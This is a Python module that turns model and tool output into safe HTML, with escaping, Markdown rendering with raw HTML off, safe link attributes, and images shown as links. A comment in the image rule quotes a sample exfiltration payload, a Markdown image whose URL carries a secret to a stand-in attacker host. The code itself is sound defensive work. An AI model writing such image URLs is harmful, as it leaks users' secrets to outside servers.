"""Text → safe HTML, below the core: Markdown answers, typed outputs as tables, clipping.

Used by the result's own ``_repr_html_`` and by the views. Every piece of model or tool text reaches HTML either
through :func:`html.escape` or through :func:`render_markdown` (markdown-it-py, CommonMark, raw HTML disabled,
unsafe link schemes refused), so nothing a model or a tool writes is ever executed by a front end.
"""

from __future__ import annotations

import json
from functools import lru_cache
from html import escape
from typing import Any


def clip(text: str, limit: int) -> str:
    if len(text) <= limit:
        return text
    return text[:limit] + f"… [{len(text) - limit} more characters]"


@lru_cache(maxsize=1)
def _markdown() -> Any:
    from markdown_it import MarkdownIt

    # CommonMark + GFM tables and strikethrough; html=False turns raw HTML into text; linkify off.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])

    def link_open(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
        tokens[idx].attrSet("target", "_blank")
        tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
        return renderer.renderToken(tokens, idx, options, env)

    def image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
        # Images are not fetched: a model-written image URL is a classic exfiltration channel
        # (``![](https://evil.example/?q=<secret>)``). Show a link the reader may follow instead.
        token = tokens[idx]
        src = escape(token.attrGet("src") or "")
        alt = escape(renderer.renderInlineAsText(token.children or [], options, env) or "image")
        return f'<a href="{src}" target="_blank" rel="noopener noreferrer nofollow">🖼 {alt}</a>'

    md.add_render_rule("link_open", link_open)
    md.add_render_rule("image", image)
    return md


@lru_cache(maxsize=256)
def render_markdown(text: str) -> str:
    """Markdown → safe HTML (raw HTML shown as text; ``javascript:``/``vbscript:``/``file:``/non-image
    ``data:`` links refused by markdown-it's ``validateLink``). Cached: views re-render on every flush."""
    return f'<div class="mm-md">{_markdown().render(text)}</div>'


def _plain(value: Any) -> Any:
    """A typed output as plain data (pydantic models, dataclasses → dicts)."""
    import dataclasses

    dump = getattr(value, "model_dump", None)
    if callable(dump):
        return dump(mode="json")
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return dataclasses.asdict(value)
    return value


def output_html(value: Any, depth: int = 0) -> str:
    """A typed output as a small table (objects), list (sequences) or value; nested levels as a tree."""
    data = _plain(value)
    if depth > 4:
        return f"<code>{escape(clip(json.dumps(data, default=str), 300))}</code>"
    if isinstance(data, dict):
        name = type(value).__name__ if depth == 0 and not isinstance(value, dict) else ""
        caption = f'<caption style="text-align:left;color:#57606a">{escape(name)}</caption>' if name else ""
        rows = "".join(f'<tr><th style="text-align:left;padding-right:12px">{escape(str(k))}</th>'
                       f"<td>{output_html(v, depth + 1)}</td></tr>" for k, v in list(data.items())[:100])
        return f'<table class="mm-output-table">{caption}{rows}</table>'
    if isinstance(data, (list, tuple)):
        items = "".join(f"<li>{output_html(v, depth + 1)}</li>" for v in list(data)[:100])
        more = f"<li>… {len(data) - 100} more</li>" if len(data) > 100 else ""
        return f'<ol class="mm-output-list" start="0" style="margin:0">{items}{more}</ol>'
    return f"<code>{escape(clip(str(data), 1000))}</code>"
